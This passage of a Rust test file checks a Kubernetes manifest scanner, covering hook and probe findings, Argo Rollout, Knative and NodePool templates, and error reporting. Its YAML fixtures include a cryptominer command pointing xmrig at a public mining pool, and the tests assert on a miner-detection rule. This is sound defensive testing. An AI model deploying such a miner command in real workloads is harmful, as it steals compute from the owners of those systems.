            exec: {command: ["sh", "-c", "test -f /var/lib/postgresql/data/PG_VERSION"]}
          lifecycle:
            preStop:
              exec: {command: ["/bin/sh", "-c", "pg_ctl stop -m fast"]}
"#;
    let mut keys = Vec::new();
    for out in scan_on_both_yaml_paths(text) {
        let r = out.json();
        assert_contract(&r);
        let by = |name: &str| -> Vec<&Value> {
            findings(&r).iter().filter(|f| f["name"] == name).collect()
        };
        let hook = by("storefront");
        assert!(
            hook.iter().any(|f| f["severity"] == "critical"
                && f["field"]
                    == "spec.template.spec.containers[0].lifecycle.postStart.exec.command[2]"
                && f["line"] == 15),
            "{hook:#?}"
        );
        let probe = by("zookeeper");
        assert!(
            probe
                .iter()
                .any(|f| f["rule"] == "builtin/miner-binary/xmrig"
                    && f["field"]
                        == "spec.template.spec.containers[0].livenessProbe.exec.command[2]"),
            "{probe:#?}"
        );
        let db = by("db");
        assert!(
            db.iter()
                .all(|f| f["severity"] == "low" || f["severity"] == "info"),
            "{db:#?}"
        );
        assert_eq!(out.code, 1);
        keys.push(
            findings(&r)
                .iter()
                .map(|f| {
                    (
                        f["rule"].to_string(),
                        f["field"].to_string(),
                        f["line"].to_string(),
                    )
                })
                .collect::<Vec<_>>(),
        );
    }
    assert_eq!(keys[0], keys[1]);
}

#[test]
fn other_kinds_with_a_pod_template_are_workloads_of_their_kind() {
    // an Argo Rollout and a Knative Service run pods from spec.template: evaluated (on both
    // YAML paths); a NodePool's template is not a pod's; a broken template is an error that
    // names the field
    let text = r#"apiVersion: argoproj.io/v1alpha1
kind: Rollout
metadata: {name: web, namespace: shop}
spec:
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec:
      containers:
        - name: web
          image: alpine:3.20
          command: ["/opt/xmrig", "-o", "pool.supportxmr.com:443"]
  strategy: {canary: {steps: [{setWeight: 20}]}}
---
apiVersion: serving.knative.dev/v1
kind: Service
metadata: {name: hello, namespace: web}
spec:
  template:
    spec:
      containers:
        - image: ghcr.io/knative/helloworld-go:latest
          ports: [{containerPort: 8080}]
---
apiVersion: karpenter.sh/v1
kind: NodePool
metadata: {name: default}
spec:
  template:
    spec:
      requirements: [{key: kubernetes.io/arch, operator: In, values: [amd64]}]
---
apiVersion: apps.kruise.io/v1alpha1
kind: CloneSet
metadata: {name: broken}
spec:
  template:
    spec:
      containers: "xmrig"
"#;
    for out in scan_on_both_yaml_paths(text) {
        let r = out.json();
        assert_contract(&r);
        assert!(
            findings(&r).iter().any(|f| f["kind"] == "Rollout"
                && f["name"] == "web"
                && f["severity"] == "critical"
                && f["field"] == "spec.template.spec.containers[0].command[0]"),
            "{r:#}"
        );
        assert!(
            findings(&r)
                .iter()
                .all(|f| f["name"] != "hello" && f["name"] != "default"),
            "{r:#}"
        );
        let errs = errors(&r);
        assert!(
            errs.iter().any(|e| e["message"].as_str().is_some_and(
                |m| m.contains("CloneSet") && m.contains("spec.template.spec.containers")
            )),
            "{errs:#?}"
        );
        assert_eq!(r["summary"]["skipped"], 1, "the NodePool");
    }
}
